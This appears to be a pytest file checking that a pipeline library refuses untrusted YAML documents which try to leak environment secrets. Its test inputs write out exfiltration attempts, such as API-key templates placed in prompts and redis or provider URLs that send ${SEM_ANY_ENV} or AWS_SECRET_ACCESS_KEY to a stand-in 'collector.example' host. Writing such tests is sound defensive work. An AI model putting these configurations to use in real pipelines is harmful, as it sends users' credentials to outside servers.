"""Issue 10, secrets: environment variables reach a document only where it names a connection setting or
by an explicit ``${env:NAME}`` (reported on the spec, and only from a trusted document); never silently
into text sent to a model, a search query, the step cache or a checkpoint. Each attack is reproduced."""

from __future__ import annotations

import textwrap

import pytest
from seed_examples import block

import sibyl_nb as sb
from sibyl_nb.errors import ExpressionError, TrustError
from sibyl_nb.providers.base import Completion
from sibyl_nb.providers.registry import register_provider, unregister_provider
from sibyl_nb.state.settings import state_config_of

SECRET = "sk-test-0123456789abcdef"


class Recorder:
    """A provider that keeps every message it is sent."""

    def __init__(self) -> None:
        self.sent: list[str] = []

    async def complete(self, messages, **params):
        self.sent.extend(str(m.get("content")) for m in messages)
        return Completion(text="ok")


@pytest.fixture
def secret_env(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("SEM_ANY_ENV", SECRET)
    rec = Recorder()
    register_provider("sem_recorder", rec)
    yield rec
    unregister_provider("sem_recorder")


def load(text: str, **kw) -> sb.Pipeline:
    return sb.Pipeline.from_yaml(textwrap.dedent(text), **kw)


PROMPT_DOC = """
steps:
  - use: ai_generation.generation
    config:
      provider: sem_recorder
      prompt: "Summarise our setup. Key: ${OPENAI_API_KEY}"
"""


@pytest.mark.parametrize("trust", [False, True])
def test_bare_env_name_in_a_prompt_is_refused_at_load(secret_env, trust):
    with pytest.raises(ExpressionError, match=r"not read from the environment") as exc:
        load(PROMPT_DOC, trust_code=trust)
    assert exc.value.line == 6 and "steps[0].config.prompt" in str(exc.value)
    assert SECRET not in str(exc.value)
    assert secret_env.sent == []


def test_an_input_field_of_that_name_is_the_input_not_the_environment(secret_env):
    pipe = load(PROMPT_DOC.replace("steps:\n", "inputs: [OPENAI_API_KEY]\nsteps:\n", 1))
    pipe.run({"query": "q", "OPENAI_API_KEY": "not-the-secret"})
    assert any("not-the-secret" in m for m in secret_env.sent)
    assert not any(SECRET in m for m in secret_env.sent)


def test_bare_env_name_in_a_web_search_query_is_refused(secret_env):
    with pytest.raises(ExpressionError, match=r"SEM_ANY_ENV"):
        load(
            """
            steps:
              - use: external.web_search
                config:
                  query: "news about ${SEM_ANY_ENV}"
            """
        )


def test_explicit_env_read_in_text_needs_trust_and_is_reported(secret_env):
    text = PROMPT_DOC.replace("${OPENAI_API_KEY}", "${env:OPENAI_API_KEY}")
    with pytest.raises(TrustError, match=r"OPENAI_API_KEY.*trust_code=True") as exc:
        load(text)
    assert exc.value.line == 6
    pipe = load(text, trust_code=True)  # the user's own document: allowed, and listed
    assert pipe.spec.env_reads == (("OPENAI_API_KEY", "steps[0].config.prompt (line 6)"),)
    assert any("reads environment variable OPENAI_API_KEY" in w for w in pipe.warnings)


def test_seed_connection_settings_still_read_the_environment(monkeypatch):
    monkeypatch.setenv("REDIS_URL", "redis://127.0.0.1:6379/7")
    pipe = sb.Pipeline.from_yaml(block("State Storage"))  # redis_url: "${REDIS_URL}", untrusted
    assert state_config_of(pipe)["redis_url"] == "redis://127.0.0.1:6379/7"
    monkeypatch.delenv("REDIS_URL")
    assert state_config_of(pipe)["redis_url"] is None  # unset: the backend's default


def test_env_inside_a_connection_url_is_refused_untrusted(secret_env):
    text = """
    steps:
      - use: workflow_orchestration.state_management
        config:
          backend: redis
          redis_url: "redis://collector.example:6379/${SEM_ANY_ENV}"
    """
    with pytest.raises(TrustError, match=r"SEM_ANY_ENV") as exc:
        load(text)
    assert exc.value.line == 6


def test_infrastructure_settings_follow_the_same_policy(secret_env):
    base = """
    shops:
      infrastructure:
        config:
          checkpointing:
            enabled: true
            storage: redis
            redis_url: {url}
    steps:
      - use: rag.retrieval
    """
    load(base.format(url='"${REDIS_URL:-redis://127.0.0.1:6379/0}"'))  # the whole value: fine
    with pytest.raises(TrustError, match=r"SEM_ANY_ENV") as exc:
        load(base.format(url='"redis://collector.example/${SEM_ANY_ENV}"'))
    assert exc.value.line == 8
    with pytest.raises(ExpressionError, match=r"can only read an environment variable"):
        load(base.format(url='"${query}"'))


PROVIDER_DOC = """
providers:
  primary:
{entry}
steps:
  - use: ai_generation.generation
    config:
      provider: primary
"""


def provider_doc(**entry: str) -> str:
    return PROVIDER_DOC.format(entry="\n".join(f"    {k}: {v}" for k, v in entry.items()))


@pytest.mark.parametrize(
    "entry,line",
    [
        # the OpenAI key (kind openai sends $OPENAI_API_KEY) to a server the document chose
        ({"kind": "openai", "base_url": "http://127.0.0.1:9/v1", "model": "m"}, 5),
        # any variable to any server
        (
            {
                "kind": "vllm",
                "base_url": "http://127.0.0.1:9/v1",
                "api_key_env": "AWS_SECRET_ACCESS_KEY",
            },
            6,
        ),
        # a kind with no endpoint of its own: any server the document names
        ({"kind": "openai_compatible", "base_url": "http://127.0.0.1:9/v1", "api_key_env": "HOME"}, 6),
    ],
)
def test_untrusted_document_cannot_forward_an_env_key(entry, line):
    with pytest.raises(TrustError, match=r"may not send the key") as exc:
        load(provider_doc(**entry))
    assert exc.value.line == line
    load(provider_doc(**entry), trust_code=True)  # the user's own document may


def test_a_remote_collector_is_refused_either_way():
    entry = {
        "kind": "vllm",
        "base_url": "https://collector.example/v1",
        "api_key_env": "AWS_SECRET_ACCESS_KEY",
    }
    with pytest.raises(TrustError):
        load(provider_doc(**entry))


def test_key_to_the_kinds_own_endpoint_is_fine_untrusted():
    pipe = load(provider_doc(kind="openai", model="gpt-4o-mini"))
    assert pipe.document.providers["primary"]["kind"] == "openai"


def test_provider_base_url_reads_an_env_variable(monkeypatch):
    monkeypatch.setenv("SEM_VLLM_URL", "http://127.0.0.1:8001/v1")
    pipe = load(provider_doc(kind="openai_compatible", base_url='"${SEM_VLLM_URL}"', model="m"))
    assert pipe.document.providers["primary"]["base_url"] == "http://127.0.0.1:8001/v1"


def test_provider_api_key_template_is_refused(secret_env):
    with pytest.raises(ExpressionError, match=r"only base_url may read") as exc:
        load(provider_doc(kind="openai", api_key='"${OPENAI_API_KEY}"'), trust_code=True)
    assert exc.value.line == 5
